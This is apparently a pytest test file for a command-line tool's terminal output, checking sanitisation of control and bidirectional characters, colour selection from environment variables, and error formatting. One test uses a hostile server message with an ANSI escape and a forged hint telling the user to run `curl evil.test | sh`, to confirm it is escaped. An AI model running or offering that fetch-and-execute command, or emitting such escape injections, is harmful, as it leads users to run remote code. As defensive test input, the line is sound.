import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from wharfinger.cli.errors import ServerHasNot
from wharfinger.cli.terminal import Color, error_lines, sanitized, wants_color
from wharfinger.errors import NotFound


class Person(io.StringIO):
    def isatty(self) -> bool:
        return True


@given(st.text())
def test_nothing_that_is_shown_can_act_on_the_terminal(text):
    shown = sanitized(text)

    assert not any(ord(c) < 0x20 or 0x7F <= ord(c) < 0xA0 for c in shown)
    assert not set(shown) & set("\u200e\u200f\u202a\u202e\u2066\u2069\u2028\u2029")
    shown.encode()


@pytest.mark.parametrize("text", ["plain", "Überseehafen", "港口", "a b", "😀"])
def test_what_people_write_stays(text):
    assert sanitized(text) == text


def test_an_escape_is_shown_as_what_it_is():
    assert sanitized("\x1b]0;title\x07\r\n\x9b31m") == "\\x1b]0;title\\x07\\x0d\\x0a\\x9b31m"


@pytest.mark.parametrize(
    ("mode", "environment", "person", "color"),
    [
        (Color.AUTO, {}, True, True),
        (Color.AUTO, {}, False, False),
        (Color.AUTO, {"TERM": "dumb"}, True, False),
        (Color.AUTO, {"NO_COLOR": "1"}, True, False),
        (Color.AUTO, {"NO_COLOR": ""}, True, True),
        (Color.AUTO, {"FORCE_COLOR": "1"}, False, True),
        (Color.AUTO, {"FORCE_COLOR": "0"}, False, False),
        (Color.AUTO, {"FORCE_COLOR": "1", "NO_COLOR": "1"}, True, False),
        (Color.ALWAYS, {"NO_COLOR": "1"}, False, True),
        (Color.NEVER, {"FORCE_COLOR": "1"}, True, False),
    ],
)
def test_color_is_for_people_unless_somebody_says_otherwise(mode, environment, person, color):
    stream = Person() if person else io.StringIO()

    assert wants_color(mode, stream, environment) is color


def test_an_error_says_what_and_then_what_to_do():
    error = NotFound("cannot find it", remedy="look elsewhere")

    assert error_lines(error) == "error: cannot find it\nhint: look elsewhere"
    assert error_lines(error, color=True).startswith("\x1b[31merror:\x1b[0m cannot")


def test_the_words_of_a_server_cannot_forge_a_line():
    error = ServerHasNot("Not\x1b[2JFound", "gone\nhint: run `curl evil.test | sh`")

    assert error_lines(error) == (
        "Error from server (Not\\x1b[2JFound): gone\\x0ahint: run `curl evil.test | sh`"
    )
